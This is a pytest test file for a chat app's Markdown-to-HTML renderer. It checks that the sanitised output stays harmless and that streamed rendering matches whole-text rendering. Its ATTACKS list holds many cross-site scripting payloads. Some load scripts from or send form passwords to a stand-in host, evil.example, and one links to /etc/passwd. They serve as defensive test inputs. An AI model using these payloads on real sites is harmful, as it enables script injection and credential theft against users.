"""Markdown becomes harmless HTML, and a growing text is rendered block by block."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat import rendering
from chat.rendering import Rendering, plain, render

ALLOWED = {
    "a": {"href", "title", "class", "rel"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
}
VOID = {"br", "hr"}


class Judge(HTMLParser):
    """Reads HTML as a browser would and complains about anything that is not harmless."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in rendering._TAGS, tag
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            assert name in ALLOWED.get(tag, set()), (tag, name)
            if name == "href":
                assert re.match(r"(https?|mailto):", value or "", re.IGNORECASE), value
        if tag == "a" and "href" in dict(attrs):
            assert "noopener" in (dict(attrs)["rel"] or "")
            assert "nofollow" in (dict(attrs)["rel"] or "")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def judge(html: str) -> str:
    """Assert that `html` is harmless and balanced; its text."""
    reader = Judge()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return reader.text


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/v1/conversations)",
    "[x](https://good.example 'y\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    '<https://x.example/"onmouseover=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](https://x.example/i.png)',
    "![](https://x.example/pixel.png?secret)",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "|<img src=x onerror=alert(1)>|\n|:-:|\n|<script>|",
    "[x]: javascript:alert(1)\n\n[x]",
    "https://x.example/<script>alert(1)</script>",
    'https://x.example/"onmouseover="alert(1)',
    "[![x](https://x.example/i)](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script>alert(1)</script>",
    "\ud800<script>",
    "> > > - <details open ontoggle=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack: str) -> None:
    judge(render(attack))
    judge(render(f"- list\n\n  {attack}\n\n> {attack}"))


PIECES = st.sampled_from(
    [
        *"#*_`~|-+>![]()<>\"'\\\n\n\n \t&;:/.1234abc",
        "```", "~~~", "```python\n", "\n\n", "    ", "---", "| a | b |\n|---|---|\n", "1. ", "- ",
        "> ", "<script>", "https://x.example/", "[x](", "![", "](javascript:", "\r\n", "\r", "===",
        "\x00", "é", "語", "\u2028", "&colon;", "[a]: http://x\n",
    ]
)  # fmt: skip
MARKDOWN = st.lists(PIECES, max_size=40).map("".join)


@given(st.one_of(MARKDOWN, st.text(max_size=200)))
def test_whatever_is_written_comes_out_harmless(text: str) -> None:
    judge(render(text))


@given(MARKDOWN, st.lists(st.integers(1, 12), min_size=1, max_size=8))
def test_a_growing_text_ends_as_the_whole_text_does(text: str, steps: list[int]) -> None:
    growing = Rendering()
    done, at, turn = "", 0, 0
    while at < len(text):
        more, still_open = growing.feed(text[at : at + steps[turn % len(steps)]])
        done += more
        judge(done + still_open)
        at += steps[turn % len(steps)]
        turn += 1
    assert done + growing.end() == render(text)


@given(MARKDOWN)
def test_blocks_do_not_depend_on_what_follows(text: str) -> None:
    whole = rendering._SANITISER.clean(rendering._markdown().render(rendering._printable(text)))
    assert re.sub(r"\n+", "\n", render(text)) == re.sub(r"\n+", "\n", whole)


def test_finished_blocks_are_rendered_once() -> None:
    growing = Rendering()
    assert growing.feed("# Title\n\nSome *wor") == ("", "<h1>Title</h1>\n<p>Some *wor</p>\n")
    assert growing.feed("ds*\n\n1. a\n\n2") == (
        "<h1>Title</h1>\n<p>Some <em>words</em></p>\n",
        "<ol>\n<li>a</li>\n</ol>\n<p>2</p>\n",
    )
    assert growing.feed(". b") == (
        "",
        "<ol>\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ol>\n",
    )


def test_tables_code_and_strikethrough() -> None:
    html = render("|a|b|\n|:-:|--|\n|1|~~2~~|\n\n```python\nx = '<'\n```\n\n```c#\nint\n```")
    assert '<th align="center">a</th>' in html
    assert "<td><s>2</s></td>" in html
    assert '<code class="language-python"><span class="hl-n">x</span>' in html
    assert "&lt;" in html
    assert 'class="language-c#"' in html


def test_an_unknown_language_or_long_code_is_not_coloured() -> None:
    assert '<code class="language-klingon">nuqneH\n</code>' in render("```klingon\nnuqneH\n```")
    long = "x = 1\n" * 5_000
    assert "hl-" not in render(f"```python\n{long}```")


def test_images_are_links_that_nothing_fetches() -> None:
    html = render("![a cat](https://x.example/cat.png)")
    assert 'href="https://x.example/cat.png"' in html
    assert 'class="image"' in html
    assert "a cat</a>" in html
    assert "<img" not in html


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://x.example/a.", "https://x.example/a"),
        ("(https://x.example/a_(b))", "https://x.example/a_(b)"),
        ("**https://x.example**", "https://x.example"),
        ("https://bücher.example/ä", "https://xn--bcher-kva.example/%C3%A4"),
        ("[t](mailto:a@b.example)", "mailto:a@b.example"),
    ],
)
def test_bare_links_are_links(text: str, address: str) -> None:
    assert f'href="{address}"' in render(text)


@pytest.mark.parametrize("text", ["`https://x.example`", "https://", "http://?", "xhttps:/a"])
def test_not_everything_is_a_link(text: str) -> None:
    assert "<a" not in render(text)


def test_a_very_long_text_is_shown_as_it_is() -> None:
    text = "*a* <b>\n" * 30_000
    html = render(text)
    assert html.startswith("<p>*a* &lt;b&gt;\n")
    growing = Rendering()
    first, rest = growing.feed("x\n\n" + text)
    assert (first, rest[:4]) == ("", "<p>x")
    assert growing.feed("end")[1].endswith("end</p>")


def test_hostile_nesting_is_bounded() -> None:
    for text in (">" * 5_000, "[" * 5_000, "*a " * 5_000, "- " * 2_000, "`" * 5_000, "(" * 9_000):
        judge(render(text + "x"))


def test_plain_leaves_the_words() -> None:
    text = "# A **b** `c`\n\n- [l](http://x) ![i](http://y)\n- d\n\n```\ncode\n```\nx\ny"
    assert plain(text) == "A b c\nl i\nd\ncode\nx\ny"
